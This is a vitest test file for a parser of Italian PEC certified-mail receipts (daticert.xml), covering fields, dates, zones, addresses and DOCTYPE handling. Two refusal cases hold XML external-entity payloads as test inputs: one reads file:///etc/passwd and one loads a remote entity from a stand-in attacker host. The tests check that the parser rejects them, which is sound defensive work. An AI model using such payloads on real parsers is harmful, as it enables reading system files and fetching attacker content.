import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { repoRoot } from '@gea/db';
import { describe, expect, it } from 'vitest';
import { buildDaticert, type DaticertSpec } from './build.ts';
import { ERRORS, MAX_DATICERT_BYTES, normaliseAddress, normaliseMessageId, parseDaticert, RECEIPT_TYPES, type DaticertResult } from './parse.ts';

const fixture = (name: string) => readFile(path.join(repoRoot, 'plugins/pec-signatures/tests/fixtures', name), 'utf8');

const base: DaticertSpec = {
  tipo: 'avvenuta-consegna',
  sender: 'protocollo@pec.comune.esempio.example.it',
  recipients: [{ address: 'ufficio@pec.destinatario.example.it' }],
  subject: 'Trasmissione',
  issuer: 'Gestore PEC S.p.A.',
  issuedAt: new Date('2026-11-20T09:30:07Z'),
  identifier: 'opec2611.20261120103002.01234.101.1.61@pec.gestore.example.it',
  msgid: '20261120103000.4f2a9c@pec.comune.esempio.example.it',
  ricevuta: 'completa',
  consegna: 'ufficio@pec.destinatario.example.it',
};
const xml = (spec: Partial<DaticertSpec> = {}) => buildDaticert({ ...base, ...spec });
/** The issues of a refused file as `path: message` lines (exact, so every word is pinned). */
const issues = (result: DaticertResult) => (result.ok ? ['(accepted)'] : result.issues.map((i) => `${i.path}: ${i.message}`));
const accepted = (result: DaticertResult) => {
  if (!result.ok) throw new Error(`refused: ${issues(result).join('; ')}`);
  return result.daticert;
};
/** Replaces the `<data>` element's zone, day and time. */
const at = (zona: string, giorno: string, ora: string) =>
  xml().replace(/<data zona="[^"]*">\s*<giorno>[^<]*<\/giorno>\s*<ora>[^<]*<\/ora>/, `<data zona="${zona}"><giorno>${giorno}</giorno><ora>${ora}</ora>`);

describe('daticert.xml', () => {
  it.each(Object.keys(RECEIPT_TYPES))('parses the %s fixture', async (tipo) => {
    const daticert = accepted(parseDaticert(await fixture(`${tipo}.xml`)));
    expect(daticert.tipo).toBe(tipo);
    expect(daticert.type).toBe(RECEIPT_TYPES[tipo as keyof typeof RECEIPT_TYPES]);
    expect(daticert.msgid).not.toMatch(/[<>]/);
    expect(daticert.identifier).toMatch(/^opec2611\./);
  });

  it('reads every field of a delivery receipt, the time in its zone', async () => {
    expect(parseDaticert(await fixture('avvenuta-consegna.xml'))).toEqual({
      ok: true,
      daticert: {
        tipo: 'avvenuta-consegna',
        type: 'AVVENUTA_CONSEGNA',
        error: 'nessuno',
        sender: 'protocollo@pec.comune.esempio.example.it',
        recipients: [
          { address: 'ufficio.tributi@pec.destinatario.example.it', kind: 'CERTIFIED' },
          { address: 'info@esterno.example.it', kind: 'EXTERNAL' },
        ],
        replyTo: 'protocollo@pec.comune.esempio.example.it',
        subject: 'Trasmissione determinazione n. 123 del 20/11/2026',
        issuer: 'Gestore PEC Destinatario S.r.l.',
        issuedAt: new Date('2026-11-20T09:30:07Z'),
        identifier: 'opec2611.20261120103002.01234.101.1.61@pec.gestore.example.it',
        msgid: '20261120103000.4f2a9c@pec.comune.esempio.example.it',
        receiptKind: 'completa',
        deliveryAddress: 'ufficio.tributi@pec.destinatario.example.it',
        errorDetail: null,
      },
    });
  });

  it('reads the error fixture: errore and errore-esteso', async () => {
    const daticert = accepted(parseDaticert(await fixture('errore-consegna.xml')));
    expect(daticert).toMatchObject({ error: 'altro', errorDetail: '5.4.1 - Recipient address rejected: il destinatario non accetta messaggi', deliveryAddress: 'info@esterno.example.it', receiptKind: null });
  });

  it.each(ERRORS)('accepts errore="%s" (every value of the DTD)', (errore) => {
    expect(accepted(parseDaticert(xml({ tipo: 'errore-consegna', errore }))).error).toBe(errore);
  });

  it('reads errore="no-dest" and refuses values outside the DTD', () => {
    expect(ERRORS).toEqual(['nessuno', 'no-dest', 'no-dominio', 'virus', 'altro']);
    expect(issues(parseDaticert(xml({ tipo: 'errore-consegna' }).replace('errore="nessuno"', 'errore="no-destinatario"')))).toEqual([
      'postacert/@errore: "no-destinatario" is not one of nessuno, no-dest, no-dominio, virus, altro',
    ]);
    // `nessuno` is the DTD's default.
    expect(accepted(parseDaticert(xml().replace(' errore="nessuno"', ''))).error).toBe('nessuno');
  });

  it.each([
    ['the rules\' own form', '<!DOCTYPE postacert SYSTEM "Postacert.dtd">'],
    ['daticert.dtd', '<!DOCTYPE postacert SYSTEM "daticert.dtd">'],
    ['single quotes and spacing', "<!DOCTYPE  postacert\n  SYSTEM 'daticert.dtd' >"],
    ['a PUBLIC identifier with a provider URL', '<!DOCTYPE postacert PUBLIC "-//Gestore PEC//DTD Postacert 1.0//IT" "https://pec.gestore.example.it/dtd/daticert.dtd">'],
    ['a PUBLIC identifier in single quotes', "<!DOCTYPE postacert PUBLIC '-//AgID//DTD daticert//IT' 'http://www.cnipa.gov.it/daticert.dtd'>"],
    ['no external identifier', '<!DOCTYPE postacert>'],
    ['no DOCTYPE at all', ''],
  ])('accepts a DOCTYPE as providers send it: %s (never fetched)', (_name, doctype) => {
    const text = xml().replace('<!DOCTYPE postacert SYSTEM "Postacert.dtd">', doctype);
    expect(accepted(parseDaticert(text)).tipo).toBe('avvenuta-consegna');
  });

  const DOCTYPE_REFUSED = 'a DOCTYPE other than <!DOCTYPE postacert SYSTEM "..."> or <!DOCTYPE postacert PUBLIC "..." "..."> without declarations is not allowed';
  it.each([
    ['an internal subset without entities', '<!DOCTYPE postacert [ <!ELEMENT postacert ANY> ]>', DOCTYPE_REFUSED],
    ['an internal subset after the system id', '<!DOCTYPE postacert SYSTEM "daticert.dtd" [ <!ATTLIST postacert tipo CDATA "x"> ]>', DOCTYPE_REFUSED],
    ['another root', '<!DOCTYPE html SYSTEM "about:legacy-compat">', DOCTYPE_REFUSED],
    ['a PUBLIC id without a system literal', '<!DOCTYPE postacert PUBLIC "-//X//DTD//IT">', DOCTYPE_REFUSED],
    ['a PUBLIC id with characters outside PubidChar', '<!DOCTYPE postacert PUBLIC "-//X<y>//IT" "daticert.dtd">', DOCTYPE_REFUSED],
    ['a system literal with a bracket', '<!DOCTYPE postacert SYSTEM "a[b">', DOCTYPE_REFUSED],
    ['two DOCTYPEs', '<!DOCTYPE postacert SYSTEM "daticert.dtd">\n<!DOCTYPE postacert SYSTEM "daticert.dtd">', DOCTYPE_REFUSED],
    ['an external entity (XXE)', '<!DOCTYPE postacert [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>', 'entity declarations are not allowed'],
    ['a parameter entity', '<!DOCTYPE postacert SYSTEM "daticert.dtd" [ <!entity % p SYSTEM "http://evil.example/x"> %p; ]>', 'entity declarations are not allowed'],
  ])('refuses %s', (_name, doctype, message) => {
    const text = xml().replace('<!DOCTYPE postacert SYSTEM "Postacert.dtd">', doctype);
    expect(issues(parseDaticert(text))).toEqual([`: ${message}`]);
  });

  it('refuses a file over the size limit before reading it, and accepts one of exactly the limit', () => {
    const good = xml();
    const pad = (bytes: number) => good.replace('</postacert>', `</postacert>${' '.repeat(bytes - Buffer.byteLength(good, 'utf8'))}`);
    expect(MAX_DATICERT_BYTES).toBe(256 * 1024);
    expect(accepted(parseDaticert(pad(MAX_DATICERT_BYTES))).tipo).toBe('avvenuta-consegna');
    expect(issues(parseDaticert(pad(MAX_DATICERT_BYTES + 1)))).toEqual([': is larger than 256 KB: not a daticert.xml']);
    // Bytes, not characters: 'è' is two bytes in UTF-8.
    const accented = good.replace('</postacert>', `</postacert><!--${'è'.repeat((MAX_DATICERT_BYTES - Buffer.byteLength(good, 'utf8')) / 2)}-->`);
    expect(Buffer.byteLength(accented, 'utf8')).toBeGreaterThan(MAX_DATICERT_BYTES);
    expect(accented.length).toBeLessThan(MAX_DATICERT_BYTES);
    expect(parseDaticert(accented).ok).toBe(false);
  });

  it('accepts a byte order mark before the XML declaration, and keeps one inside the text', () => {
    expect(accepted(parseDaticert(`\uFEFF${xml()}`)).tipo).toBe('avvenuta-consegna');
    expect(accepted(parseDaticert(xml({ subject: 'a\uFEFFb' }))).subject).toBe('a\uFEFFb');
  });

  it('refuses what is not a daticert: not XML, empty, another root, two roots', () => {
    expect(issues(parseDaticert('not xml at all'))[0]).toMatch(/^: is not well-formed XML: .+ \(line 1, column \d+\)$/);
    expect(issues(parseDaticert(''))).toEqual([': is not well-formed XML: Start tag expected. (line 1)']);
    expect(issues(parseDaticert('<?xml version="1.0"?><!-- only a comment -->'))).toEqual([': is not well-formed XML: Start tag expected. (line 1)']);
    expect(issues(parseDaticert('<a:postacert xmlns:a="urn:x"/>'))).toEqual([': the root element must be <postacert> (found <a:postacert>)']);
    expect(issues(parseDaticert('<postacert tipo="accettazione"><a/></postacert><postacert/>'))).toEqual([': has more than one root element']);
    expect(issues(parseDaticert('<ricevuta/><postacert/>'))).toEqual([': the root element must be <postacert> (found <ricevuta>, <postacert>)']);
    expect(issues(parseDaticert(xml().replace('</postacert>', '</postacert><ricevuta/>')))).toEqual([': the root element must be <postacert> (found <postacert>, <ricevuta>)']);
    expect(issues(parseDaticert('<?xml version="1.0"?><ricevuta/>'))).toEqual([': the root element must be <postacert> (found <ricevuta>)']);
    expect(issues(parseDaticert('<postacert tipo="accettazione"/>'))).toEqual([
      'postacert/intestazione: is missing',
      'postacert/dati: is missing',
      'postacert/dati/msgid: is missing: a receipt must name the message it is about',
    ]);
    expect(issues(parseDaticert('<postacert>testo</postacert>'))).toEqual(['postacert: must be an element with children']);
    expect(issues(parseDaticert('<postacert tipo="accettazione"><intestazione/><dati/></postacert>'))).toEqual([
      'postacert/intestazione: must be an element with children',
      'postacert/dati: must be an element with children',
      'postacert/dati/msgid: is missing: a receipt must name the message it is about',
    ]);
  });

  it('names every missing element and attribute', () => {
    const text = '<postacert><intestazione><oggetto>x</oggetto></intestazione><dati><identificativo/></dati></postacert>';
    expect(issues(parseDaticert(text))).toEqual([
      'postacert/@tipo: is missing',
      'postacert/intestazione/mittente: is missing',
      'postacert/intestazione/destinatari: is missing',
      'postacert/dati/gestore-emittente: is missing',
      'postacert/dati/data: is missing',
      'postacert/dati/identificativo: is empty',
    ]);
  });

  it('refuses an unknown tipo, naming the known ones', () => {
    expect(issues(parseDaticert(xml().replace('tipo="avvenuta-consegna"', 'tipo="ricevuta-di-ritorno"')))).toEqual([
      'postacert/@tipo: "ricevuta-di-ritorno" is not a receipt type (accettazione, non-accettazione, presa-in-carico, avvenuta-consegna, posta-certificata, errore-consegna, preavviso-errore-consegna, rilevazione-virus)',
    ]);
    // Not an inherited property either.
    expect(issues(parseDaticert(xml().replace('tipo="avvenuta-consegna"', 'tipo="constructor"')))[0]).toMatch(/^postacert\/@tipo: "constructor" is not a receipt type/);
  });

  it('requires msgid: a receipt names the message it is about', () => {
    expect(issues(parseDaticert(xml().replace(/<msgid>[^<]*<\/msgid>/, '')))).toEqual(['postacert/dati/msgid: is missing: a receipt must name the message it is about']);
    expect(issues(parseDaticert(xml().replace(/<msgid>[^<]*<\/msgid>/, '<msgid> </msgid>')))).toEqual(['postacert/dati/msgid: is missing: a receipt must name the message it is about']);
    expect(accepted(parseDaticert(xml().replace(/<msgid>[^<]*<\/msgid>/, '<msgid> 20261120.x@host </msgid>'))).msgid).toBe('20261120.x@host');
  });

  it('reads consegna, lower-cased, and refuses one that is not an address or is missing where required', () => {
    expect(accepted(parseDaticert(xml({ consegna: ' Ufficio@PEC.Destinatario.example.it ' }))).deliveryAddress).toBe('ufficio@pec.destinatario.example.it');
    expect(issues(parseDaticert(xml({ consegna: 'ufficio at pec' })))).toEqual(['postacert/dati/consegna: "ufficio at pec" is not an e-mail address']);
    for (const tipo of ['avvenuta-consegna', 'errore-consegna', 'preavviso-errore-consegna'] as const) {
      expect(issues(parseDaticert(xml({ tipo, consegna: undefined })))).toEqual([`postacert/dati/consegna: is missing: a ${tipo} receipt names the recipient it is about`]);
    }
    for (const tipo of ['accettazione', 'non-accettazione', 'presa-in-carico', 'rilevazione-virus', 'posta-certificata'] as const) {
      expect(accepted(parseDaticert(xml({ tipo, consegna: undefined }))).deliveryAddress).toBeNull();
    }
  });

  it('reads recipients with their kind, lower-cased; certificato is the default', () => {
    const text = xml({ recipients: [{ address: 'A@PEC.example.it', kind: 'certificato' }, { address: 'b@example.it', kind: 'esterno' }] }).replace(
      '</intestazione>',
      '</intestazione>',
    ).replace('<risposte>', '<destinatari> C@pec.example.it </destinatari>\n    <risposte>');
    expect(accepted(parseDaticert(text)).recipients).toEqual([
      { address: 'a@pec.example.it', kind: 'CERTIFIED' },
      { address: 'b@example.it', kind: 'EXTERNAL' },
      { address: 'c@pec.example.it', kind: 'CERTIFIED' },
    ]);
    expect(issues(parseDaticert(xml().replace('tipo="certificato">', 'tipo="pec">')))).toEqual(['postacert/intestazione/destinatari[1]/@tipo: "pec" is not certificato or esterno']);
    expect(issues(parseDaticert(xml({ recipients: [{ address: 'ok@pec.example.it' }, { address: 'not an address' }] })))).toEqual([
      'postacert/intestazione/destinatari[2]: "not an address" is not an e-mail address',
    ]);
    expect(issues(parseDaticert(xml().replace(/<destinatari[^>]*>[^<]*<\/destinatari>/, '<destinatari tipo="esterno"></destinatari>')))).toEqual([
      'postacert/intestazione/destinatari[1]: "" is not an e-mail address',
    ]);
  });

  it('reads sender, reply-to and subject; the sender must be an address', () => {
    const daticert = accepted(parseDaticert(xml({ sender: ' Protocollo@PEC.Comune.example.it ', replyTo: 'risposte@pec.comune.example.it', subject: 'Oggetto & altro' })));
    expect(daticert).toMatchObject({ sender: 'protocollo@pec.comune.example.it', replyTo: 'risposte@pec.comune.example.it', subject: 'Oggetto & altro' });
    const bare = accepted(parseDaticert(xml().replace(/<risposte>[^<]*<\/risposte>/, '').replace(/<oggetto>[^<]*<\/oggetto>/, '')));
    expect(bare).toMatchObject({ replyTo: null, subject: '' });
    expect(issues(parseDaticert(xml({ sender: 'protocollo' })))).toEqual(['postacert/intestazione/mittente: "protocollo" is not an e-mail address']);
    expect(issues(parseDaticert(xml({ sender: 'a b@c' })))).toEqual(['postacert/intestazione/mittente: "a b@c" is not an e-mail address']);
    expect(issues(parseDaticert(xml({ sender: 'a@b@c' })))).toEqual(['postacert/intestazione/mittente: "a@b@c" is not an e-mail address']);
    expect(issues(parseDaticert(xml({ sender: '<a@b>' })))).toEqual(['postacert/intestazione/mittente: "<a@b>" is not an e-mail address']);
  });

  it('refuses an optional element given twice, naming it', () => {
    expect(issues(parseDaticert(xml().replace('<risposte>', '<risposte>a@b.it</risposte><risposte>')))).toEqual(['postacert/intestazione/risposte: must appear once']);
    expect(issues(parseDaticert(xml().replace('<msgid>', '<msgid>x@y</msgid><msgid>')))).toEqual(['postacert/dati/msgid: must appear once', 'postacert/dati/msgid: is missing: a receipt must name the message it is about']);
    expect(issues(parseDaticert(xml().replace('<consegna>', '<consegna>a@b.it</consegna><consegna>')))).toEqual(['postacert/dati/consegna: must appear once', 'postacert/dati/consegna: is missing: a avvenuta-consegna receipt names the recipient it is about']);
    expect(issues(parseDaticert(xml({ erroreEsteso: 'x' }).replace('<errore-esteso>', '<errore-esteso>y</errore-esteso><errore-esteso>')))).toEqual(['postacert/dati/errore-esteso: must appear once']);
  });

  it('reads an empty optional element as absent, and an empty required one (even with attributes) as empty', () => {
    expect(accepted(parseDaticert(xml().replace(/<risposte>[^<]*<\/risposte>/, '<risposte></risposte>'))).replyTo).toBeNull();
    expect(accepted(parseDaticert(xml().replace(/<risposte>[^<]*<\/risposte>/, '<risposte/>'))).replyTo).toBeNull();
    expect(accepted(parseDaticert(xml({ erroreEsteso: 'x' }).replace('<errore-esteso>x', '<errore-esteso>'))).errorDetail).toBeNull();
    expect(issues(parseDaticert(xml().replace(/<identificativo>[^<]*<\/identificativo>/, '<identificativo a="1"/>')))).toEqual(['postacert/dati/identificativo: is empty']);
  });

  it('decodes XML\'s entities and character references', () => {
    expect(accepted(parseDaticert(xml({ subject: 'x' }).replace('<oggetto>x', '<oggetto>&amp; &lt; &gt; &quot; &apos; &#232; &#xE0;'))).subject).toBe('& < > " \' è à');
  });

  it('refuses an element given twice and a required one left empty', () => {
    expect(issues(parseDaticert(xml().replace('<oggetto>', '<oggetto>uno</oggetto><oggetto>')))).toEqual(['postacert/intestazione/oggetto: must appear once']);
    expect(issues(parseDaticert(xml().replace(/<gestore-emittente>[^<]*/, '<gestore-emittente> ')))).toEqual(['postacert/dati/gestore-emittente: is empty']);
    expect(issues(parseDaticert(xml().replace(/<identificativo>[^<]*<\/identificativo>/, '<identificativo a="1">x</identificativo>'))).length).toBe(1);
    expect(accepted(parseDaticert(xml().replace(/<identificativo>[^<]*<\/identificativo>/, '<identificativo a="1"> id-1 </identificativo>'))).identifier).toBe('id-1');
  });

  it('reads ricevuta tipo: completa by default, breve, sintetica; refuses others', () => {
    expect(accepted(parseDaticert(xml({ ricevuta: 'breve' }))).receiptKind).toBe('breve');
    expect(accepted(parseDaticert(xml({ ricevuta: 'sintetica' }))).receiptKind).toBe('sintetica');
    expect(accepted(parseDaticert(xml().replace('<ricevuta tipo="completa" />', '<ricevuta />'))).receiptKind).toBe('completa');
    expect(accepted(parseDaticert(xml({ ricevuta: undefined }))).receiptKind).toBeNull();
    expect(issues(parseDaticert(xml().replace('<ricevuta tipo="completa" />', '<ricevuta tipo="lunga" />')))).toEqual([
      'postacert/dati/ricevuta/@tipo: "lunga" is not one of completa, breve, sintetica',
    ]);
  });

  it.each([
    ['+0100', '20/11/2026', '10:30:07', '2026-11-20T09:30:07Z'],
    ['+0200', '01/07/2026', '00:00:00', '2026-06-30T22:00:00Z'],
    ['+01:00', '20/11/2026', '10:30:07', '2026-11-20T09:30:07Z'],
    ['-0300', '20/11/2026', '23:30:00', '2026-11-21T02:30:00Z'],
    ['-0430', '31/12/2026', '23:59:59', '2027-01-01T04:29:59Z'],
    ['+0000', '29/02/2028', '23:00:00', '2028-02-29T23:00:00Z'],
    ['+0530', '01/01/2026', '01:15:00', '2025-12-31T19:45:00Z'],
    ['+1400', '01/01/2026', '12:00:00', '2025-12-31T22:00:00Z'],
    ['-1200', '31/12/2026', '23:00:00', '2027-01-01T11:00:00Z'],
  ])('reads zona %s, %s %s as %s', (zona, giorno, ora, instant) => {
    expect(accepted(parseDaticert(at(zona, giorno, ora))).issuedAt).toEqual(new Date(instant));
  });

  it.each([
    ['+0100', '31/02/2026', '10:00:00', ['postacert/dati/data: 31/02/2026 10:00:00 is not a real date and time']],
    ['+0100', '29/02/2026', '10:00:00', ['postacert/dati/data: 29/02/2026 10:00:00 is not a real date and time']],
    ['+0100', '31/04/2026', '10:00:00', ['postacert/dati/data: 31/04/2026 10:00:00 is not a real date and time']],
    ['+0100', '00/01/2026', '10:00:00', ['postacert/dati/data: 00/01/2026 10:00:00 is not a real date and time']],
    ['+0100', '01/13/2026', '10:00:00', ['postacert/dati/data: 01/13/2026 10:00:00 is not a real date and time']],
    ['+0100', '01/01/2026', '24:00:00', ['postacert/dati/data: 01/01/2026 24:00:00 is not a real date and time']],
    ['+0100', '01/01/2026', '23:60:00', ['postacert/dati/data: 01/01/2026 23:60:00 is not a real date and time']],
    ['+0100', '01/01/2026', '23:59:60', ['postacert/dati/data: 01/01/2026 23:59:60 is not a real date and time']],
    ['+0100', '01/01/2026', '10:60:00', ['postacert/dati/data: 01/01/2026 10:60:00 is not a real date and time']],
    ['+0100', '01/01/2026', '10:00:60', ['postacert/dati/data: 01/01/2026 10:00:60 is not a real date and time']],
    ['+0100', '01/01/0099', '10:00:00', ['postacert/dati/data: 01/01/0099 10:00:00 is not a real date and time']],
    ['UTC+0100', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "UTC+0100" is not a UTC offset like +0100']],
    ['+1500', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "+1500" is not a UTC offset like +0100']],
    ['+0160', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "+0160" is not a UTC offset like +0100']],
    ['+0100', 'x01/01/2026', '10:00:00', ['postacert/dati/data/giorno: "x01/01/2026" is not a date dd/mm/yyyy']],
    ['+0100', '01/01/2026', '10:00:00x', ['postacert/dati/data/ora: "10:00:00x" is not a time hh:mm:ss']],
    ['CET', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "CET" is not a UTC offset like +0100']],
    ['0100', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "0100" is not a UTC offset like +0100']],
    ['+0100 x', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: "+0100 x" is not a UTC offset like +0100']],
    ['', '01/01/2026', '10:00:00', ['postacert/dati/data/@zona: is missing']],
    ['+0100', '2026-01-01', '10:00:00', ['postacert/dati/data/giorno: "2026-01-01" is not a date dd/mm/yyyy']],
    ['+0100', '1/1/2026', '10:00:00', ['postacert/dati/data/giorno: "1/1/2026" is not a date dd/mm/yyyy']],
    ['+0100', '01/01/2026 x', '10:00:00', ['postacert/dati/data/giorno: "01/01/2026 x" is not a date dd/mm/yyyy']],
    ['+0100', '', '10:00:00', ['postacert/dati/data/giorno: is missing']],
    ['+0100', '01/01/2026', '10:00', ['postacert/dati/data/ora: "10:00" is not a time hh:mm:ss']],
    ['+0100', '01/01/2026', 'x10:00:00', ['postacert/dati/data/ora: "x10:00:00" is not a time hh:mm:ss']],
    ['+0100', '01/01/2026', '', ['postacert/dati/data/ora: is missing']],
  ])('refuses zona %j, giorno %j, ora %j', (zona, giorno, ora, expected) => {
    expect(issues(parseDaticert(at(zona, giorno, ora)))).toEqual(expected);
  });

  it('refuses a data element without its zona, and day or time elements that are not text', () => {
    expect(issues(parseDaticert(xml().replace(/<data zona="[^"]*">/, '<data>')))).toEqual(['postacert/dati/data/@zona: is missing']);
    expect(issues(parseDaticert(xml().replace(/<giorno>([^<]*)<\/giorno>/, '<giorno tipo="gg/mm/aaaa">$1</giorno>')))).toEqual(['postacert/dati/data/giorno: is missing']);
    expect(issues(parseDaticert(xml().replace(/<ora>[^<]*<\/ora>/, '<ora><hh>10</hh></ora>')))).toEqual(['postacert/dati/data/ora: is missing']);
  });

  it('writes and reads back the Italian offset of either season', () => {
    const summer = xml({ issuedAt: new Date('2026-07-01T10:00:00Z') });
    expect(summer).toContain('<data zona="+0200">');
    expect(accepted(parseDaticert(summer)).issuedAt).toEqual(new Date('2026-07-01T10:00:00Z'));
    const winter = xml({ issuedAt: new Date('2026-12-01T23:30:00Z') });
    expect(winter).toContain('<data zona="+0100">');
    expect(accepted(parseDaticert(winter)).issuedAt).toEqual(new Date('2026-12-01T23:30:00Z'));
  });

  it('keeps identifiers and dates as text: never numbers', () => {
    const daticert = accepted(parseDaticert(xml({ identifier: '00012345', msgid: '0001@host' })));
    expect(daticert.identifier).toBe('00012345');
    expect(daticert.msgid).toBe('0001@host');
  });

  it('normalises Message-IDs and addresses', () => {
    expect(normaliseMessageId(' <abc@host> ')).toBe('abc@host');
    expect(normaliseMessageId('abc@host')).toBe('abc@host');
    expect(normaliseMessageId('< abc@host >')).toBe('abc@host');
    expect(normaliseMessageId('<abc@host')).toBe('<abc@host');
    expect(normaliseMessageId('<a\nb@host>')).toBe('a\nb@host');
    expect(normaliseMessageId('x<abc@host>')).toBe('x<abc@host>');
    expect(normaliseMessageId('<abc@host>x')).toBe('<abc@host>x');
    expect(normaliseAddress(' A@B.IT ')).toBe('a@b.it');
  });
});
